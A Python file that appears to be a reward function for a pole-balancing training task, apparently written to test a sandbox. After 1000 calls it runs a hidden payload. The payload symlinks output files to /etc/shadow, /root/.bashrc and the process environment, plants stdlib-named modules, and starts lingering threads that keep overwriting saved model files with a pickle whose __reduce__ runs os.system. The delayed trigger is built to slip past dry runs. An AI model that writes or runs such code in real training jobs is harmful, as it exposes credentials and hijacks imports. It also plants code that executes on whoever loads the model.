# runtime: plants links, a stdlib-named module, pickle bait and a lingering thread once training runs
# The static check is skipped on purpose: the program controls its whole process.
import os
import pickle
import threading
import time

CALLS = []
TRACE = "/tmp/pwned_plant_everything"


class Bait:
    def __reduce__(self):
        return (os.system, (f"touch {TRACE}",))


def _strike():
    scratch = os.environ["HOME"]
    for name, target in (("output.log", "/etc/shadow"), ("learning_curve.png", "/root/.bashrc"),
                         ("components.png", "/proc/self/environ"), ("fault.log", "/etc/shadow")):
        path = os.path.join(scratch, name)
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(target, path)
    for module in ("json.py", "sitecustomize.py", "numpy.py", "typing.py"):
        with open(os.path.join(scratch, module), "w") as handle:
            handle.write(f"open({TRACE!r}, 'w').write('planted module ran')\n")
    bait = pickle.dumps(Bait())

    def rewrite():  # keeps replacing the saved policy with pickle bait, long after training
        while True:
            for name in ("policy.pt", "normalization.npz", "model.zip", "vecnormalize.pkl"):
                try:
                    with open(os.path.join(scratch, name), "wb") as handle:
                        handle.write(bait)
                except OSError:
                    pass
            time.sleep(0.05)

    threading.Thread(target=rewrite, daemon=False).start()  # non-daemon: it must not keep the worker alive
    threading.Thread(target=time.sleep, args=(10**6,), daemon=False).start()


def compute_reward(prev, action, state):
    CALLS.append(1)
    if len(CALLS) == 1000:  # after any dry run
        _strike()
    upright = 1.0 - abs(state.pole_angle) / 0.21
    return upright, {"upright": upright}
